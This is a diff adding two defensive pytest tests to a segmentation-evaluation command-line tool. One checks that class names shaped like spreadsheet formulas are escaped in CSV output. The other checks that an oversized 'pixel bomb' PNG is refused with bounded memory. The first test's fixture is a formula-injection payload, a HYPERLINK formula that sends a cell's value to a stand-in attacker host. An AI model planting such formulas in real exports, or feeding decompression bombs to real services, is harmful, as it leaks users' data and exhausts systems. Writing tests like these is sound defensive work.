@@ -138,3 +138,41 @@ def test_semantic_command_does_not_import_torch() -> None:
             "print(sorted(m for m in ('torch', 'torchvision', 'matplotlib') if m in sys.modules))")
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "[]"
+
+
+def test_formula_like_class_names_are_escaped_in_csv_only(dirs: tuple[Path, Path], tmp_path: Path) -> None:
+    """A class named like a spreadsheet formula is text in the CSV (leading apostrophe), verbatim in Parquet."""
+    import csv
+
+    gt_dir, pred_dir = dirs
+    out = tmp_path / "report"
+    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    classes = tmp_path / "classes.txt"
+    classes.write_text(f"bg\n{evil}\n@dog\n", encoding="utf-8")
+    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
+                                       "-o", str(out), "--classes", str(classes)])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader((out / "per_class.csv").open(encoding="utf-8")) for cell in row]
+    assert "'" + evil in cells and "'@dog" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    names = pd.read_parquet(out / "per_class.parquet").iloc[:, 0].tolist()
+    assert evil in names and "@dog" in names
+    numbers = pd.read_csv(out / "summary.csv").set_index("metric")["value"]
+    assert numbers["mIoU"] == pytest.approx(pd.read_parquet(out / "summary.parquet").set_index("metric")["value"]["mIoU"])
+
+
+def test_a_prediction_pixel_bomb_is_refused_with_bounded_memory(dirs: tuple[Path, Path], tmp_path: Path) -> None:
+    """A ~400 KB prediction PNG declaring 20000x20000 (400 MB decoded): refused from its header."""
+    from tests.converters.test_hostile_sizes import bomb_png
+
+    gt_dir, pred_dir = dirs
+    (pred_dir / "a.png").write_bytes(bomb_png(20000, 20000, fill=1))
+    code = ("import json, resource, sys\nfrom segpipe.cli import main\n"
+            "try:\n    main.main(args=sys.argv[1:], prog_name='segpipe')\nexcept SystemExit as e:\n    rc = e.code\n"
+            "print(json.dumps({'rc': rc, 'rss_kb': [int(l.split()[1]) for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]}))\n")
+    done = subprocess.run([sys.executable, "-c", code, "evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
+                           "-o", str(tmp_path / "r"), "--classes", "bg,cat,dog"], capture_output=True, text=True, timeout=300)
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    assert result["rc"] == 1, done.stderr
+    assert f"{pred_dir / 'a.png'}: size: 20000x20000 = 400000000 pixels is over the limit" in done.stderr
+    assert result["rss_kb"] < 350 * 1024, result
